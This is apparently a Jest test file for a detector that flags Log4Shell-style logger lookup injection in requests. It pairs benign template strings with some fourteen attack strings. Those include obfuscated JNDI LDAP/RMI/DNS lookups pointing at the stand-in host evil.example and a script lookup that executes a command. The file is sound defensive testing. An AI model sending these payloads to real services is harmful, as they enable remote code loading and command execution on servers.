// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are those of template engines and loggers
import { detectLookupInjection } from '../../../../../lambdas/request-guard/threats/lookup/lookup-injection';
import { REFUSED, surestScore } from '../surest-detection';

describe('lookups of loggers', () => {
  it.each([
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:ldap://evil.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}',
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}',
    '${jndi:${lower:l}${lower:d}a${lower:p}://evil.example}',
    '$%7Bjndi:dns://evil.example%7D',
    '${j${k8s:k5:-ND}i:ldap://evil.example/a}',
    '${${upper:j}ndi:rmi://evil.example}',
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    '${dns:address|evil.example}',
    '${url:UTF-8:http://evil.example}',
    '${sys:java.version}',
    '${java:os}',
    'Mozilla/5.0 ${jndi:ldap://evil.example/x} test',
  ])('is seen in %j', (text) => {
    expect(surestScore(detectLookupInjection, text)).toBeGreaterThanOrEqual(REFUSED);
  });

  it.each([
    '${HOME}/bin',
    '${var.region}-bucket',
    '${{ secrets.GITHUB_TOKEN }}',
    '${{ github.event.pull_request.number }}',
    '`Hello ${name}`',
    'Total: ${amount} due on ${date}',
    '$(document).ready(init)',
    '$x^{2} + y^{2} = z^{2}$',
    'mutation Add($id: ID!) { add(id: $id) { id } }',
    '^[a-z]+(?:\\.[a-z]+)*$',
    '^(?=.*[A-Z])(?=.*\\d).{8,}$',
    '/^\\d{3}-\\d{4}$/',
    '<div th:text="${user.name}">x</div>',
    '{ "$ref": "#/components/schemas/User" }',
    'apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - name: x\n    image: {{ .Values.image }}\n    args: ["--x=$(FOO)"]',
    'on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n    - run: echo ${{ secrets.X }} && npm ci',
    '${env:STAGE}',
    '${DB_HOST:-localhost}',
    '${A:-${B:-c}}',
    '${self:custom.stage}',
    '${file(./a.yml):b}',
  ])('is not seen in %j', (text) => {
    expect(surestScore(detectLookupInjection, text, { place: 'json' })).toBeLessThan(REFUSED);
  });

  it('is seen wherever in a text it stands, since loggers resolve it there', () => {
    expect(
      surestScore(
        detectLookupInjection,
        'Dear all,\nplease see ${${lower:JNDI}:ldap://evil.example} for details.\nBye',
        { place: 'json' },
      ),
    ).toBe(98);
  });

  it('is seen where it is cut off', () => {
    expect(surestScore(detectLookupInjection, '${${::-j}ndi:ldap://evil.example/')).toBe(98);
  });
});
